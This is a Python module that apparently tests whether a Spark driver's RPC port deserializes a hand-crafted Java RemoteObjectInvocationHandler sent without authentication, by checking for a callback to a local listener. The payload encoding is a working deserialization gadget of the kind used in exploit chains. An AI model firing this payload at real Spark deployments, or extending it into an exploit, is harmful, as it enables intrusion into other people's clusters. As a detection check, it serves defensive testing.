"""Sends a Java object to the RPC port of a Spark driver, without its secret.

The object names an address of this process. A JVM that deserializes it connects to that address, whoever sent it.
"""

import socket
import struct
from contextlib import suppress

LOOPBACK = "127.0.0.1"
_RPC_REQUEST, _NO_SENDER, _WITH_ADDRESS = b"\x03", b"\x00", b"\x01"
_CLASS = b"java.rmi.server.RemoteObjectInvocationHandler"
_PARENT = b"java.rmi.server.RemoteObject"


def is_deserialized(port: int, seconds: float) -> bool:
    """Whether the driver on this port reads the object and connects to its address within this time."""
    with socket.create_server((LOOPBACK, 0)) as listener:
        listener.settimeout(seconds)
        with socket.create_connection((LOOPBACK, port), timeout=seconds) as connection:
            connection.sendall(_encode_request(port, _encode_object(listener.getsockname()[1])))
            with suppress(TimeoutError):
                listener.accept()[0].close()
                return True
    return False


def _encode_request(port: int, content: bytes) -> bytes:
    """A frame of Spark's protocol: its length, the kind, the id, and the length of the body."""
    receiver = _WITH_ADDRESS + _text(LOOPBACK.encode()) + struct.pack(">i", port)
    body = _NO_SENDER + receiver + _text(b"endpoint-verifier") + content
    head = _RPC_REQUEST + struct.pack(">qi", 1, len(body))
    return struct.pack(">q", 8 + len(head) + len(body)) + head + body


def _encode_object(port: int) -> bytes:
    """A RemoteObjectInvocationHandler of the JDK in Java's serialization: the reference to an object at this port."""
    reference = _text(b"UnicastRef") + _text(LOOPBACK.encode()) + struct.pack(">i", port)
    reference += struct.pack(">q", 7) + struct.pack(">iqh", 0, 0, 0) + b"\x00"  # the object's id; no result
    own = b"\x72" + _text(_CLASS) + struct.pack(">q", 2) + b"\x02" + struct.pack(">h", 0) + b"\x78"
    parent = b"\x72" + _text(_PARENT) + struct.pack(">q", -3215090123894869218) + b"\x03" + struct.pack(">h", 0)
    block = b"\x77" + bytes([len(reference)]) + reference + b"\x78"
    return b"\xac\xed\x00\x05\x73" + own + parent + b"\x78\x70" + block


def _text(value: bytes) -> bytes:
    return struct.pack(">h", len(value)) + value
